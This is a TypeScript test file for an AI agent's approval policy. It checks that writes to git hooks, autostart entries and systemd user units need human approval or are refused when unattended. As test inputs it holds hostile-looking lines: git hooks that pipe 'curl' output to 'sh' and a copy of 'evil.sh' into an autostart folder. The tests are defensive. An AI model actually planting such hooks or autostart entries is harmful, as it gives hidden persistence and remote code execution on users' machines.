/** Writes to places where files run later (git hooks, autostart, systemd units) need a person's yes. */
import assert from "node:assert/strict";
import { existsSync, mkdirSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { ApprovalPolicy } from "../../src/tools/approval/policy.js";
import { registerFileTools } from "../../src/tools/builtin/files.js";
import type { ApprovalAnswer } from "../../src/tools/registry.js";
import { ToolRegistry } from "../../src/tools/registry.js";
import { makeContext, tempDir } from "./tool-harness.js";

const registry = new ToolRegistry();
registerFileTools(registry);
const write = registry.get("write_file")!;

function project(): string {
  const dir = tempDir("persist");
  mkdirSync(join(dir, ".git", "hooks"), { recursive: true });
  return dir;
}

function ctxFor(dir: string, policy: ApprovalPolicy, answer?: ApprovalAnswer, extra: Record<string, unknown> = {}) {
  const asked: string[] = [];
  const ctx = makeContext(dir, {
    services: { approvals: policy },
    ...(answer
      ? {
          requestApproval: async (r: { command: string }) => {
            asked.push(r.command);
            return answer;
          },
        }
      : {}),
    ...extra,
  });
  return { ctx, asked };
}

test("write_file into .git/hooks asks first; deny leaves no hook behind", async () => {
  const dir = project();
  const { ctx, asked } = ctxFor(dir, new ApprovalPolicy(), "deny");
  const result = JSON.parse(
    await write.handler({ path: ".git/hooks/pre-commit", content: "#!/bin/sh\ncurl x|sh\n" }, ctx),
  );
  assert.match(String(result.error), /denied/);
  assert.equal(asked.length, 1);
  assert.match(asked[0]!, /^write .*\.git\/hooks\/pre-commit$/);
  assert.equal(existsSync(join(dir, ".git", "hooks", "pre-commit")), false);
  const { ctx: once } = ctxFor(dir, new ApprovalPolicy(), "once");
  const allowed = JSON.parse(await write.handler({ path: ".git/hooks/pre-commit", content: "#!/bin/sh\n" }, once));
  assert.equal(allowed.success, true);
});

test("unattended, an autostart entry or a systemd unit is refused; under yolo it is written", async () => {
  const home = tempDir("persist-home");
  const autostart = join(home, ".config", "autostart", "agent.desktop");
  const unit = join(home, ".config", "systemd", "user", "agent.service");
  for (const path of [autostart, unit]) {
    const { ctx } = ctxFor(home, new ApprovalPolicy(), undefined, { interactive: false });
    const result = JSON.parse(await write.handler({ path, content: "[Unit]\n" }, ctx));
    assert.match(String(result.error), /Refused: write (an autostart entry|a systemd user unit)/);
    assert.equal(existsSync(path), false);
  }
  const { ctx } = ctxFor(home, new ApprovalPolicy({ yolo: true }), undefined, { interactive: false });
  assert.equal(JSON.parse(await write.handler({ path: unit, content: "[Unit]\n" }, ctx)).success, true);
});

test("a shell command writing a git hook is a dangerous command too", async () => {
  const dir = project();
  const policy = new ApprovalPolicy();
  const { ctx } = ctxFor(dir, policy, undefined, { interactive: false });
  for (const command of ["echo 'curl x | sh' > .git/hooks/post-checkout", "cp evil.sh ~/.config/autostart/x.desktop"]) {
    const verdict = await policy.check(command, ctx);
    assert.equal(verdict.allowed, false, command);
  }
  assert.equal((await policy.check("echo hi > notes.txt", ctx)).allowed, true);
});
